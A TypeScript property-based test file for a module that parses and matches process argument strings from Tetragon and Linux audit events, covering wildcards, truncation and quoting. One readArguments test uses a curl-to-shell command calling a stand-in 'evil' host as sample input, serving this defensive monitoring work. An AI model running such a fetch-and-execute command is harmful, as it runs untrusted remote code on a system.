import { trySplitArguments } from "@kinglet/enrichment";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ArgumentsText, extentOfText, readArguments } from "./arguments-text.ts";

/** As Tetragon v1.7.0 does it; the kernel gives no empty arguments at the end. */
function joined(args: readonly string[]): string {
  let text = "";
  for (const arg of args.slice(0, args.findLastIndex((one) => one !== "") + 1)) {
    if (arg.includes(" ")) text += ` "${arg}"`;
    else text += text === "" ? arg : ` ${arg}`;
  }
  return text;
}

const argument = fc.string({ unit: fc.constantFrom("a", "b", " ", '"', "'", "\\", "-", "\ufffd"), maxLength: 5 });
const vector = fc.array(argument, { maxLength: 5 });
const [one, any] = ["\u22ef", "\u22ef\u22ef"];
const mayBe = (text: string, args: readonly string[]): boolean => new ArgumentsText(text, false).mayBe(args);
const mayBegin = (text: string, args: readonly string[]): boolean => new ArgumentsText(text, true).mayBe(args);
const plain = (text: string): string => text.replace(/\ufffd+/g, "\ufffd").replace(/^ (?=")/, "");

describe("ArgumentsText", () => {
  it("may be every vector that gives the text, and no other one [rules U-1]", () => {
    let different = 0;
    fc.assert(
      fc.property(vector, vector, (args, others) => {
        expect(mayBe(joined(args), args)).toBe(true);
        if (plain(joined(args)) === plain(joined(others))) return;
        different++;
        expect(mayBe(joined(args), others), JSON.stringify([joined(args), others])).toBe(false);
      }),
      { seed: 1, numRuns: 20_000 },
    );
    expect(different).toBeGreaterThan(10_000);
  });

  it("takes wildcards for whatever they may stand for [rules U-1]", () => {
    const pattern = fc.array(fc.oneof(argument, fc.constantFrom(one, any)), { maxLength: 5 });
    fc.assert(
      fc.property(pattern, vector, fc.array(vector, { maxLength: 3 }), (entry, ones, more) => {
        const [filling, rest] = [[...ones], [...more]];
        const args = entry.flatMap((arg) => {
          if (arg === one) return [filling.pop() ?? "x y"];
          return arg === any ? (rest.pop() ?? []) : [arg];
        });
        expect(mayBe(joined(args), entry), JSON.stringify([joined(args), entry])).toBe(true);
      }),
      { seed: 1, numRuns: 20_000 },
    );
    expect(mayBe('-c "a b" "c d"', ["-c", one])).toBe(true);
    expect(mayBe('-c "a b" c"', ["-c", one])).toBe(true);
    expect(mayBe("-c 'a b'", ["-c", one])).toBe(false);
    expect(mayBe('-c "a b" "c d"', ["-c", "a b", one])).toBe(true);
    expect(mayBe('-c "a b" "c d"', ["-x", any])).toBe(false);
    expect(mayBe("'a' x", [any, "y"])).toBe(false);
    expect(mayBe("'a' x", [any, ...Array.from({ length: 256 }, () => one)])).toBe(false);
  });

  it("may begin with a text that was cut anywhere, in a character too, and with no other one [rules U-1]", () => {
    let different = 0;
    fc.assert(
      fc.property(vector, fc.nat(30), fc.boolean(), vector, (args, length, isInCharacter, others) => {
        const kept: string[] = [];
        let left = length;
        for (const arg of args) {
          kept.push(arg.slice(0, left));
          left -= arg.length + 1;
          if (left < 0) break;
        }
        if (isInCharacter && left < 0 && kept.at(-1) !== args[kept.length - 1]) kept.push(`${kept.pop() ?? ""}\ufffd`);
        const text = joined(kept);
        expect(mayBegin(text, args), JSON.stringify([text, args])).toBe(true);
        expect(mayBegin(text, [...kept.slice(0, -1), any])).toBe(true);
        const known = joined(kept.slice(0, -1));
        // What ends the text may be a part of something, and quotes may be an empty argument of Linux audit.
        const isEnd = /^\ufffd*$/.test(kept.at(-1) ?? "");
        if (isEnd || known.includes('""') || plain(joined(others)).startsWith(plain(known))) return;
        different++;
        expect(mayBegin(text, others), JSON.stringify([text, others])).toBe(false);
      }),
      { seed: 1, numRuns: 20_000 },
    );
    expect(different).toBeGreaterThan(2_000);
    expect(mayBegin("-c long-scri", ["-c", "long-script with words"])).toBe(true);
    expect(mayBegin('-c "long script wi"', ["-c", "long script with words"])).toBe(true);
    expect(mayBegin("-c long-scri", ["-c", "long"])).toBe(false);
    expect(mayBegin("-c long-scri", ["-c"])).toBe(false);
    expect(mayBegin("-c long-scri", ["-c", one])).toBe(true);
    expect(mayBegin('-c "x y" "half of"', ["-c", one, "half of it"])).toBe(true);
    expect(mayBegin("-x long-scri", ["-c", any])).toBe(false);
  });

  it("takes the quotes that Linux audit writes for an empty argument", () => {
    expect(mayBegin('a "" b', ["a", "", "bc"])).toBe(true);
  });

  it("needs time in proportion to the text for an entry with many wildcards", () => {
    const text = new ArgumentsText(`'${' "a b"'.repeat(10_000)}`, false);
    expect(text.mayBe([any, one, any, one, "c"])).toBe(false);
    expect(text.mayBe([one, one, one, one, "c"])).toBe(false);
  });
});

describe("readArguments", () => {
  it("gives arguments that give the text, also where the text gives several [rules U-1]", () => {
    let unknown = 0;
    fc.assert(
      fc.property(vector, (args) => {
        const text = joined(args);
        const known = trySplitArguments(text);
        if (known === undefined) unknown++;
        expect(mayBe(text, readArguments(text)), text).toBe(true);
      }),
      { seed: 1, numRuns: 20_000 },
    );
    expect(unknown).toBeGreaterThan(5_000);
    expect(readArguments('-c "curl http://evil/x | sh" "a b"')).toEqual(["-c", "curl http://evil/x | sh", "a b"]);
  });
});

describe("extentOfText", () => {
  it.each([
    ["tetragon", "execve", "a", false, "all"],
    ["tetragon", "execve truncArgs", "a", true, "beginning"],
    ["tetragon", "execve truncArgs errorArgs", "a", true, undefined],
    ["tetragon", "execve truncFilename truncArgs", "a", true, undefined],
    ["linux-audit", "execve truncArgs", "a", true, "beginning"],
    ["linux-audit", "execve truncArgs", "", true, undefined],
    ["linux-audit", "execve", "a", false, undefined],
  ] as const)("is what is certain: %s %s", (source, flags, args, isTruncated, extent) => {
    expect(extentOfText({ source, flags, args, isTruncated, binary: "/b" })).toBe(extent);
  });
});
